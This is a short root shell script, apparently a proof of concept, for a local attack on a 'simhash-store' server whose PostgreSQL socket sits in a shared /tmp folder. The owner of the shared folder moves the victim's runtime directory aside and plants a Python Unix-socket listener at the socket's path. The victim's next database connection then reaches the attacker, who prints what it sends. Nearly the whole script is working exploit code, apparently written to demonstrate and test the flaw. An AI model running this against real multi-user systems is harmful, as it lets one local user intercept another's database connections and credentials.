#!/bin/sh
# As root. h16mallory owns a shared folder /tmp/h16team (1777); h16alice runs with XDG_RUNTIME_DIR a private
# directory of hers there (or TMPDIR=/tmp/h16team: set RT=tmp) and a long data directory, so the server's
# socket lives in the runtime directory.
# While alice's server runs, mallory (owner of the folder) renames that directory away and puts hers,
# with a listener at the socket's path: alice's next connection by the store's URL reaches mallory.
set -u
A=h16alice; M=h16mallory; V=/home/$A/venv/bin; AU=$(id -u $A)
LONG=/home/$A/$(printf 'x%.0s' $(seq 1 90))
rm -rf /tmp/h16team; su $M -c "mkdir -m 1777 /tmp/h16team"
su $A -c "mkdir -p $LONG && chmod 700 $LONG && mkdir -m 700 /tmp/h16team/rt"
if [ "${RT:-}" = tmp ]; then ENV="TMPDIR=/tmp/h16team SIMHASH_STORE_DATA_DIR=$LONG"; R=/tmp/h16team/simhash-store-$AU; UNSET="-u XDG_RUNTIME_DIR"
else ENV="XDG_RUNTIME_DIR=/tmp/h16team/rt SIMHASH_STORE_DATA_DIR=$LONG"; R=/tmp/h16team/rt; UNSET=""; fi
su $A -c "cd ~ && env $UNSET $ENV $V/simhash-store init; echo init exit=\$?"
su $A -c "cd ~ && env $UNSET $ENV $V/simhash-store serve --http 127.0.0.1:18716 >/tmp/h16serve.log 2>&1 & echo \$! > /tmp/h16serve.pid"
sleep 8
URL=$(su $A -c "cd ~ && env $UNSET $ENV $V/simhash-store url 2>&1" | tail -1); echo "URL: $URL"
SOCKDIR=$(ls -d $R/*/server/* $R/server/* 2>/dev/null | head -1); echo "socket dir: $SOCKDIR"
su $M -c "mv $R /tmp/h16team/moved && mkdir -p $SOCKDIR && chmod -R 777 $R && \
  /usr/bin/python3 -c \"import socket,sys;s=socket.socket(socket.AF_UNIX);s.bind('$SOCKDIR/.s.PGSQL.5432');s.listen();c,_=s.accept();print('mallory got:',c.recv(200))\" & sleep 1; chmod 777 $SOCKDIR/.s.PGSQL.5432; wait" &
sleep 2
su $A -c "$V/python -c \"import psycopg,sys; psycopg.connect(sys.argv[1].replace('postgresql+psycopg','postgresql'), connect_timeout=3)\" '$URL'" 2>&1 | tail -1
sleep 1; kill $(cat /tmp/h16serve.pid) 2>/dev/null; wait
